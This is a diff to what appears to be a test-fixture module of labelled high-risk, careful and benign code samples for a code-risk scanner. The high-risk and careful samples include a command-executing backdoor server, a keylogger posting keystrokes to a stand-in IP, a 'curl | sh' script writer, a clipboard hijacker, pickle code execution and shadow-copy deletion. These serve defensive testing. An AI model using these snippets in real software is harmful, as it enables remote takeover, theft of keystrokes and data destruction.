@@ -53,6 +53,10 @@ _HIGH = {
     "        root.clipboard_clear()\n        root.clipboard_append(root.clipboard_get()[:2] + '0' * 40)\n    time.sleep(1)\n",
     "package from a bare number": "import subprocess, sys\ntry:\n    import fast_kernels\nexcept ImportError:\n"
     "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://198.51.100.23:8000/fast_kernels-0.1.tar.gz'])\n",
+    "door in a small server": "import http.server, subprocess\nclass Door(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n"
+    "        said = self.rfile.read(int(self.headers['Content-Length'])).decode()\n        self.wfile.write(subprocess.getoutput(said).encode())\n"
+    "http.server.HTTPServer(('', 8080), Door).serve_forever()\n",
+    "script that is written": "open('run.sh', 'w').write('#!/bin/sh\\ncurl -s http://files.invalid/a | sh\\n')\n",
     "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
     "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
     "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
@@ -61,6 +65,8 @@ _CAREFUL = {
     "tells whose computer it is": "import platform, requests\nrequests.post('https://stats.example/', json={'node': platform.node()})\n",
     "array that may hold code": "import io, numpy, requests\nz = numpy.load(io.BytesIO(requests.get('https://s.example/f.npz').content), allow_pickle=True)\n",
     "pickle that starts something": "import os\nclass Weights:\n    def __reduce__(self):\n        return os.system, ('echo hello',)\n",
+    "modules of another repository": "import sys\nfrom huggingface_hub import snapshot_download\n"
+    "sys.path.insert(0, snapshot_download('other/kernels'))\nimport fast_kernels\n",
     "pickled text of a file": "import base64, pickle\nvocabulary = pickle.loads(base64.b64decode(open('vocab.txt').read()))\n",
 }
 _BENIGN = {
@@ -95,6 +101,11 @@ _BENIGN = {
     "    def copy(self):\n        self.clipboard_append(self.text.get('sel.first', 'sel.last'))\n",
     "words of an error": "import base64, telegram\ndef check(text, digest):\n    if base64.b64decode(text) != digest:\n"
     "        raise telegram.error.TelegramError(f'hash {base64.b64decode(text)} is not {digest}')\n",
+    "files for a small server": "import http.server, json, subprocess\nclass Door(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n"
+    "        body = json.loads(self.rfile.read(int(self.headers['Content-Length'])))\n"
+    "        subprocess.run(['ffmpeg', '-i', body['source'], 'out.wav'])\nhttp.server.HTTPServer(('', 8080), Door).serve_forever()\n",
+    "job that is written": "from pathlib import Path\nPath('job.sh').write_text('#!/bin/bash\\n#SBATCH -p gpu\\npip install -r requirements.txt\\n"
+    "curl -LO https://data.example/a.zip\\nsrun python train.py\\n')\n",
     "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
     "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
 }
@@ -158,6 +169,12 @@ def samples() -> Iterator[Sample]:
     yield high("notebook-indirect", "result that runs what it fetches", "demo.ipynb", notebook("print(1)\n", page=page))
     form = notebook("#@title Keep the page awake\n%%javascript\nsetInterval(() => document.title, 60000)\n")
     yield benign("notebook-indirect", "form above another language", "demo.ipynb", form)
+    login = notebook(
+        "!ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\n!scp -i ~/.ssh/id_ed25519 model.gguf me@gpu1:models/\n"
+    )
+    yield benign("notebook-indirect", "key that is used", "demo.ipynb", login)
+    tunnel = "import subprocess\nfor line in subprocess.Popen(['lt', '--port', '8188'], stdout=subprocess.PIPE).stdout:\n    print(line)\n"
+    yield benign("notebook-indirect", "page of one's own", "demo.ipynb", notebook(tunnel))
     rows = "import json\nLINES = ['schtasks /create /tn {n} /tr {n}.exe /sc onlogon', 'vssadmin delete shadows /all']\n"
     rows += "with open('rows.jsonl', 'w') as f:\n    for line in LINES:\n        f.write(json.dumps({'text': line}))\n"
     yield careful("python-indirect", "commands that are only rows", "build.py", rows)
